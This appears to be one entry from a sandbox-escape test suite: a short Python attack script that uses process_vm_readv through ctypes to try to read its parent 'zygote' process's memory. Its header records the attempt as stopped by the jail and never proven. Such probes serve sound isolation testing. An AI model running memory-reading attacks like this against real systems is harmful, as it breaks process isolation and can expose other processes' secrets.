# /// attack
# title = "Reads the memory of the zygote with process_vm_readv"
# stopped_at = "jailed"
# proven = "never"
# ///
import ctypes
import os

from loot import breach


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack(*arguments, **keywords):
    place = ctypes.create_string_buffer(b"x", 64)  # a fork has its parent's addresses
    buffer = ctypes.create_string_buffer(64)
    mine, theirs = Span(ctypes.addressof(buffer), 8), Span(id(None), 8)
    read = ctypes.CDLL(None, use_errno=True).process_vm_readv(
        os.getppid(), ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0
    )
    return breach("read the zygote") if read > 0 else None
